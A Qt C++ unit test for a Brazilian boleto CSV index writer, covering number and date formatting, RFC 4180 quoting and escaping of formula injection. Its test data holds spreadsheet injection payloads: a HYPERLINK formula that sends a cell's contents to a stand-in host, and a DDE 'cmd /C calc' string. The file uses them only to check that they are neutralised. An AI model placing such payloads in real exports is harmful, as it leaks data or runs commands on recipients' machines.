// The lines of indice.csv as a spreadsheet and a mail merge read them.

#include "BloquetoIndex.h"

#include <QtTest>

namespace {
BloquetoIndex::Line sample()
{
    BloquetoIndex::Line l;
    l.arquivo = QStringLiteral("NF004100-26000001010.pdf");
    l.seuNumero = QStringLiteral("NF004100  ");
    l.nossoNumero = QStringLiteral("26000001010");
    l.sacado = QStringLiteral("JOSÉ DA CONCEIÇÃO                       ");
    l.cpfCnpjSacado = QStringLiteral("00027182818205 ");
    l.vencimento = QDate(2026, 12, 5);
    l.cents = 123456;
    l.linhaDigitavel = QStringLiteral("84290.34120 60000.010102 00123.456725 3 16610000008990");
    return l;
}
} // namespace

class TstBloquetoIndex : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void headerStartsWithTheByteOrderMark()
    {
        QCOMPARE(BloquetoIndex::header(),
                 QByteArray("\xEF\xBB\xBF"
                            "arquivo;seu_numero;nosso_numero;sacado;cpf_cnpj_sacado;vencimento;"
                            "valor;linha_digitavel\r\n"));
    }

    void lineHoldsTheTitle()
    {
        QCOMPARE(BloquetoIndex::line(sample()),
                 QStringLiteral("NF004100-26000001010.pdf;NF004100;26000001010;JOSÉ DA CONCEIÇÃO;"
                                "00027182818205;05/12/2026;1234,56;84290.34120 60000.010102 "
                                "00123.456725 3 16610000008990\r\n")
                     .toUtf8());
    }

    void valuesAndDates_data()
    {
        QTest::addColumn<qint64>("cents");
        QTest::addColumn<QDate>("due");
        QTest::addColumn<QByteArray>("fields");
        QTest::newRow("zero") << qint64(0) << QDate(2027, 1, 31) << QByteArray("31/01/2027;0,00");
        QTest::newRow("centavos") << qint64(7) << QDate(2026, 2, 1)
                                  << QByteArray("01/02/2026;0,07");
        QTest::newRow("no thousands separator")
            << qint64(9999999999) << QDate(2049, 10, 14) << QByteArray("14/10/2049;99999999,99");
        QTest::newRow("no due date") << qint64(1050) << QDate() << QByteArray(";10,50");
        QTest::newRow("negative") << qint64(-250) << QDate() << QByteArray(";-2,50");
    }
    void valuesAndDates()
    {
        QFETCH(qint64, cents);
        QFETCH(QDate, due);
        QFETCH(QByteArray, fields);
        BloquetoIndex::Line l = sample();
        l.cents = cents;
        l.vencimento = due;
        QVERIFY2(BloquetoIndex::line(l).contains(";00027182818205;" + fields + ";84290."),
                 BloquetoIndex::line(l).constData());
    }

    void fieldsAreQuotedAsRfc4180_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QByteArray>("field");
        QTest::newRow("plain") << QStringLiteral("ANA") << QByteArray("ANA");
        QTest::newRow("comma needs nothing")
            << QStringLiteral("SILVA, ANA") << QByteArray("SILVA, ANA");
        QTest::newRow("separator") << QStringLiteral("A;B") << QByteArray("\"A;B\"");
        QTest::newRow("quote") << QStringLiteral("BAR \"DO ZÉ\"")
                               << QStringLiteral("\"BAR \"\"DO ZÉ\"\"\"").toUtf8();
        QTest::newRow("line feed") << QStringLiteral("A\nB") << QByteArray("\"A\nB\"");
        QTest::newRow("carriage return") << QStringLiteral("A\rB") << QByteArray("\"A\rB\"");
        QTest::newRow("empty") << QString() << QByteArray();
        // A cell a spreadsheet would run as a formula goes as text.
        QTest::newRow("formula with the separator")
            << QStringLiteral("=HYPERLINK(\"http://x.example/?d=\"&A1;\"ABRIR\")")
            << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1;\"\"ABRIR\"\")\"");
        QTest::newRow("formula") << QStringLiteral("=1+1") << QByteArray("'=1+1");
        QTest::newRow("at") << QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0")
                            << QByteArray("'@SUM(1+9)*cmd|' /C calc'!A0");
        QTest::newRow("plus") << QStringLiteral("+55 11 5555") << QByteArray("'+55 11 5555");
        QTest::newRow("minus") << QStringLiteral("-2+3") << QByteArray("'-2+3");
        QTest::newRow("tab") << QStringLiteral("\t=1") << QByteArray("'\t=1");
        QTest::newRow("carriage return first") << QStringLiteral("\r=1") << QByteArray("\"'\r=1\"");
        QTest::newRow("signs inside are plain")
            << QStringLiteral("ANA-MARIA = SILVA@") << QByteArray("ANA-MARIA = SILVA@");
    }
    void fieldsAreQuotedAsRfc4180()
    {
        QFETCH(QString, text);
        QFETCH(QByteArray, field);
        QCOMPARE(BloquetoIndex::field(text), field);
        // The same inside a line: the fields around it stay apart.
        BloquetoIndex::Line l = sample();
        l.sacado = text;
        if (text.startsWith(QLatin1Char('\t')) || text.startsWith(QLatin1Char('\r')))
            return; // the line trims a name's blanks first
        QVERIFY(BloquetoIndex::line(l).contains(";26000001010;" + field + ";00027182818205;"));
    }
};

QTEST_GUILESS_MAIN(TstBloquetoIndex)
#include "tst_bloquetoindex.moc"
